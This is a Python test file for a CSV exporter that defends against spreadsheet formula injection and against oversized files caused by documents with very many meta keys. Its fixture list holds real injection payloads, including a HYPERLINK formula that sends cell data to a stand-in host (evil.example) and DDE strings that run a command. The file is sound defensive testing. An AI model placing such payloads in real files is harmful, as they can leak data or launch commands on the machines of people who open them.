"""The ``csv`` writer against hostile data: formula injection (OWASP "CSV Injection") and
documents with very many meta keys."""

import csv
import io
import re

import pytest

from annotation.pure.exports import ExportLabels
from annotation.pure.exports.tabular import TRIGGERS, neutral, unneutral
from tests.annotation.pure.exports.samples import export

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "-5 degrees", "=", "-", "'=1+1", "''@x", "-1-1", "--5", "+-5", "- 5"]
SAFE = ["", "plain", "'tis", "5", "-5", "+5", "-0.25", "-2e-05", "+1.5E+3", ".5", "-.5",
        "a=1", "1-1", " =1+1", "'", "''"]
LABELS = ExportLabels(sentiments=("=bad", "neutral"), meta_columns=("=key", "plain", "n"))
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def record(n: int, text: str, meta: dict) -> dict:
    return {"id": f"doc-{n}", "text": text, "meta": meta,
            "gold": {"sentiment": "=bad"},
            "annotations": [{"annotator": "@alice", "sentiment": "neutral"}]}


@pytest.mark.parametrize("value", FORMULAS)
def test_neutral_prefixes_a_quote_to_formulas_and_undoes_exactly(value: str) -> None:
    cell = neutral(value)
    assert cell == "'" + value
    assert unneutral(cell) == value


@pytest.mark.parametrize("value", SAFE)
def test_neutral_leaves_other_cells_and_plain_numbers(value: str) -> None:
    assert neutral(value) == value
    assert unneutral(neutral(value)) == value


def test_every_cell_of_the_file_is_neutral_and_quoted() -> None:
    """Text, id, annotator, sentiment, meta columns, the JSON meta column and the header:
    no cell begins with a trigger unless it is a plain number, and undoing gives back every
    value."""
    texts = FORMULAS + SAFE[1:]
    records = [record(n, text, {"=key": text, "plain": text, "n": -3, "rest": text})
               for n, text in enumerate(texts)]
    records[0]["id"] = "=1+1"
    data, run = export("csv", "all", records=records, labels=LABELS)
    got = rows(data)
    assert got[0] == ["id", "annotator", "text", "sentiment", "'=key", "plain", "n", "meta"]
    for row in got:
        for cell in row:
            assert cell[:1] not in TRIGGERS or NUMBER.fullmatch(cell), row
    body = got[1:]
    assert len(body) == 2 * len(texts) == run.annotations
    assert unneutral(body[0][0]) == "=1+1"
    assert {unneutral(row[1]) for row in body} == {"", "@alice"}
    assert {unneutral(row[3]) for row in body} == {"=bad", "neutral"}
    for row, text in zip(body[::2], texts, strict=True):
        assert [unneutral(cell) for cell in row[2:3] + row[4:6]] == [text, text, text]
        assert row[6] == "-3"  # a number, left as it is
    # The JSON column starts with "{": never a formula, whatever it holds.
    assert all(row[7].startswith('{"rest":') for row in body)
    # Every cell is quoted, so a separator inside one (the ";" or tab of a spreadsheet in
    # another locale) cannot start a new cell there.
    for line in data.decode().split("\r\n")[:-1]:
        if line:
            assert line.startswith('"')


def test_a_separator_inside_a_cell_stays_inside_its_quotes() -> None:
    data, _ = export("csv", "gold", labels=ExportLabels(), records=[
        {"id": 1, "text": "a;=1+1\t@SUM(A1),-2", "gold": {"sentiment": None}}])
    assert '"a;=1+1\t@SUM(A1),-2"' in data.decode()


def test_meta_keys_beyond_the_columns_stay_in_the_json_meta_column() -> None:
    labels = ExportLabels(meta_columns=("a", "text", "b", "a", "meta"))
    data, _ = export("csv", "gold", labels=labels, records=[
        {"id": 1, "text": "x", "meta": {"z": [1, 2], "a": "A", "text": "T", "meta": {"k": 1}},
         "gold": {"sentiment": None}},
        {"id": 2, "text": "y", "meta": {"a": "A2"}, "gold": {"sentiment": None}}])
    assert rows(data) == [
        ["id", "text", "sentiment", "a", "b", "meta"],  # fixed names and repeats: no column
        ["1", "x", "", "A", "", '{"z":[1,2],"text":"T","meta":{"k":1}}'],
        ["2", "y", "", "A2", "", ""]]


def test_many_meta_keys_do_not_multiply_the_rows() -> None:
    """The attack of the issue: a first document with 10,000 meta keys, then documents with
    one. The columns are the ones the caller named (the service caps them at 50); each row
    costs its own meta and a constant, so the file stays about the size of its input (one
    column per key made every row 10,000 cells wide: 30 MB here)."""
    labels = ExportLabels(meta_columns=[f"k{i}" for i in range(50)])
    wide = {"id": 0, "text": "t", "meta": {f"k{i}": i for i in range(10_000)},
            "gold": {"sentiment": None}}
    narrow = [{"id": n, "text": "t", "meta": {"k0": 1}, "gold": {"sentiment": None}}
              for n in range(1, 1001)]
    data, run = export("csv", "gold", labels=labels, records=[wide, *narrow])
    header, first, *rest = rows(data)
    assert len(header) == len(first) == 3 + 50 + 1
    assert first[3:53] == [str(i) for i in range(50)]
    assert first[-1].count(":") == 10_000 - 50
    assert all(len(row) == 54 and row[3] == "1" and row[-1] == "" for row in rest)
    assert run.documents == 1001
    assert len(data) < 2 * len(first[-1]) + 1001 * 250
